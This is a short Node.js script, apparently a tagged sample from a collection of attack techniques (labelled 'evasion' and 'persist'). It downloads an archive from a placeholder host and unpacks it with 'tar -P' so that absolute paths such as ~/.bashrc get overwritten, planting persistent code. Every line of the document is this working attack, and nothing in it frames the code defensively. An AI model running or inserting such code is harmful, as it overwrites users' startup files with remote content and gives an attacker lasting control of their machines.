// evasion: a downloaded archive unpacked with tar -P keeps its absolute member names (/home/u/.bashrc, ...)
// grade: medium; does: persist
const fs = require("fs");
const { execFileSync } = require("child_process");
async function main() {
  const res = await fetch("https://x.example/restore.tar");
  fs.writeFileSync("/tmp/restore.tar", Buffer.from(await res.arrayBuffer()));
  execFileSync("tar", ["-x", "-P", "-f", "/tmp/restore.tar"]);
}
main();
